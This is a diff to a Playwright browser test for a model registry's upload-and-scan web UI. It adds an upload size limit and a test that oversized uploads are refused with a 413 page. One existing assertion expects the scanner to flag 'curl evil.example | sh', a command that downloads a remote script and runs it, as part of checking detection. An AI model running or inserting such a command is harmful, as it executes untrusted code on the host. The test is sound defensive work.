@@ -19,6 +19,8 @@ import { until } from '../helpers/registry.js';
 const ADMIN = 'mg_admin-token-for-the-ui-test';
 const SHOTS = process.env.MODELGATE_SCREENSHOTS === '1';
 const SHOT_DIR = fileURLToPath(new URL('../../docs/screenshots/', import.meta.url));
+/** A small upload limit, so that the test can go past it. */
+const MAX_FILE_BYTES = 1024 * 1024;
 const CONFIG = JSON.stringify({ architectures: ['BertModel'], model_type: 'bert', hidden_size: 768 }, null, 2);
 
 let server: RunningServer;
@@ -42,7 +44,7 @@ async function api(path: string, body: unknown): Promise<unknown> {
 
 beforeAll(async () => {
   dataDir = mkdtempSync(join(tmpdir(), 'mg-ui-browser-'));
-  server = await startServer({ port: 0, dataDir, adminToken: ADMIN });
+  server = await startServer({ port: 0, dataDir, adminToken: ADMIN, maxFileBytes: MAX_FILE_BYTES });
   const people: Record<string, string[]> = {
     // alice is on a team where she may also review and approve: four-eyes must still stop her on her own submission.
     alice: ['submitter', 'reviewer', 'approver'],
@@ -55,8 +57,8 @@ beforeAll(async () => {
   browser = await launchChromiumForSite(new URL(server.url).origin, { viewport: { width: 1280, height: 800 } });
   page = await browser.context.newPage();
   page.on('console', (m) => {
-    // The refusals the test provokes (401, 403) are logged as failed loads: expected, not problems.
-    if ((m.type() === 'error' || m.type() === 'warning') && !/^Failed to load resource: .* status of 40[13]\b/.test(m.text())) problems.push(m.text());
+    // The refusals the test provokes (401, 403, 413) are logged as failed loads: expected, not problems.
+    if ((m.type() === 'error' || m.type() === 'warning') && !/^Failed to load resource: .* status of 4(01|03|13)\b/.test(m.text())) problems.push(m.text());
   });
   page.on('pageerror', (e) => problems.push(e.message));
   if (SHOTS) mkdirSync(SHOT_DIR, { recursive: true });
@@ -259,6 +261,23 @@ describe('the registry web UI in Chromium', () => {
     expect(findings).toContain('os.system');
     expect(findings).toContain('curl evil.example | sh');
     await shot('08-findings', '#findings');
+    await logout();
+  });
+
+  it('an upload over the size limit is refused with a page saying so, not a broken connection', async () => {
+    await login('alice');
+    await page.getByRole('link', { name: 'Submit' }).click();
+    const form = page.locator('form#upload');
+    await form.getByLabel('Model id').fill('acme/huge');
+    await form
+      .locator('input[type=file]')
+      .setInputFiles([{ name: 'weights.bin', mimeType: 'application/octet-stream', buffer: Buffer.alloc(MAX_FILE_BYTES * 3) }]);
+    const [response] = await Promise.all([
+      page.waitForResponse((r) => r.request().method() === 'POST'),
+      form.getByRole('button', { name: 'Upload and scan' }).click(),
+    ]);
+    expect(response.status()).toBe(413);
+    expect(await page.getByRole('alert').textContent()).toContain(`more than ${MAX_FILE_BYTES} bytes`);
     await logout();
   });
 
